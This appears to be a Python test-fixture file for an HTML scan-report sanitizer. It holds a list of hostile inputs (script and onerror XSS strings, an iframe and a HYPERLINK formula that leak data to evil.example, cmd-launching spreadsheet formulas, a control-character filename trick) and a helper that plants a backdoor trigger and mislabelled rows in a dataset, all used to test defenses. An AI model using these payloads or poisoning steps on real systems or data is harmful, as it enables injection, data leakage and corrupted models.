"""Sample reports and pages for the HTML report tests, and what a safe page may contain."""

from __future__ import annotations

from html.parser import HTMLParser

import numpy as np
import pandas as pd

from sanitizer.checks.base import CheckResult
from sanitizer.report import ScanReport

TRIGGER = 1.2345
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><iframe src=//evil.example>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "right-to-left \u202eexe.txt and a NUL \x00 byte",
    "A" * 50_000,
]

#: Everything a report page may contain: no script, iframe, img, object, form, link...
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "div", "h1", "h2", "h3", "p", "ul",
    "li", "a", "dl", "dt", "dd", "table", "tr", "th", "td", "section", "details", "summary",
    "figure", "figcaption", "svg", "rect", "line", "polyline", "text", "br",
}  # fmt: skip


class _Tags(HTMLParser):
    """Collects tags, attributes and text of a page, the way a browser tokenises it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(page: str, *, data_has_urls: bool = False) -> _Tags:
    """The page has only harmless tags, no event handlers, no remote or script URLs."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    tags = {t for t, _ in parser.tags}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name not in ("src", "srcset", "action", "formaction", "xlink:href"), (tag, name)
            assert "http" not in (value or "").lower() or name == "http-equiv", (tag, name, value)
            if name == "href":
                assert value is not None and value.startswith("#check-"), value
    lowered = page.lower()
    assert "javascript:" not in lowered
    if not data_has_urls:  # nothing remote, not even as text
        assert "http" not in lowered.replace("http-equiv", "")
    assert "default-src 'none'" in page
    return parser


def poison(batch: pd.DataFrame, reference: pd.DataFrame) -> pd.DataFrame:
    """A backdoor trigger on 16 rows, six mislabelled copies of a reference record and two
    schema violations."""
    bad = batch.copy()
    rng = np.random.default_rng(0)
    rows = rng.choice(len(bad), 22, replace=False)
    bad.loc[rows[:16], "x3"] = TRIGGER
    bad.loc[rows[:16], "label"] = 1
    target = reference.iloc[3]
    for pos in rows[16:]:
        for col in ("x0", "x1", "x2", "x3", "x4", "x5", "region", "plan"):
            bad.loc[pos, col] = target[col]
        bad.loc[pos, "label"] = 1 - int(target["label"])
    bad.loc[5, "x0"] = 1e6
    bad.loc[9, "region"] = "atlantis"
    return bad


def synthetic_report(
    n: int, *, seed: int = 0, hostile: str = ""
) -> tuple[ScanReport, pd.DataFrame]:
    """A report built by hand with the evidence keys the checks use, some malformed."""
    rng = np.random.default_rng(seed)
    batch = pd.DataFrame(
        {
            "record_id": np.arange(n),
            "x0": rng.normal(size=n),
            "x1": rng.normal(size=n),
            "colour": rng.choice(["red", "green", hostile or "blue"], size=n),
            "label": rng.integers(0, 2, size=n),
        }
    )
    scores = rng.random(n) ** 8
    flags = scores > 0.9
    reasons = {int(p): (f"drift: odd {hostile}",) for p in np.flatnonzero(flags)}
    checks = [
        CheckResult(
            "drift", "warn", f"drift in x0 {hostile}", 2.0, 0.001, 0.01, severity="warn",
            info={"drifted": ["x0", "colour", "no such column", None], "domain_auc": 0.7,
                  "tests": {"x0": {"statistic": 0.2, "p_value": 0.001}, "x1": "malformed"}},
        ),
        CheckResult(
            "label_consistency", "fail", "labels", 0.2, 1e-5, 0.01, scores, flags, reasons,
            info={"reference_rate": 0.01, "class_percentile_threshold": 0.99,
                  "class_thresholds": {"0": 0.5}},
        ),
        CheckResult(
            "duplicates", "fail", "copies", 0.1, 1e-9, 0.01, scores, flags,
            info={"rows_with_batch_twin": 3, "findings": "not a list of findings"},
        ),
        CheckResult(
            "backdoor", "fail", "trigger", 1.0, 1e-6, 0.01, scores, flags,
            info={"findings": [{"feature": "x1", "cell": "== 0.5", "rows": 9, "label": "1"},
                               "garbage", {"feature": None}]},
        ),
        CheckResult(
            "conditional_drift", "error", "check raised ValueError: boom",
            info={"batch_prior": [0.4, 0.6], "reference_prior": [0.5, 0.5], "seconds": 0.1},
        ),
        CheckResult("impact", "fail", "no info at all"),
    ]  # fmt: skip
    flagged = batch.iloc[np.flatnonzero(flags)].copy()
    flagged["reasons"] = [reasons[int(p)] for p in np.flatnonzero(flags)]
    report = ScanReport(
        verdict="quarantine",
        checks=checks,
        row_scores=pd.Series(scores, index=batch.index),
        flagged=flagged,
        clean_rows=pd.Series(np.zeros(n, dtype=bool), index=batch.index),
        dataset=hostile or "synthetic",
    )
    return report, batch
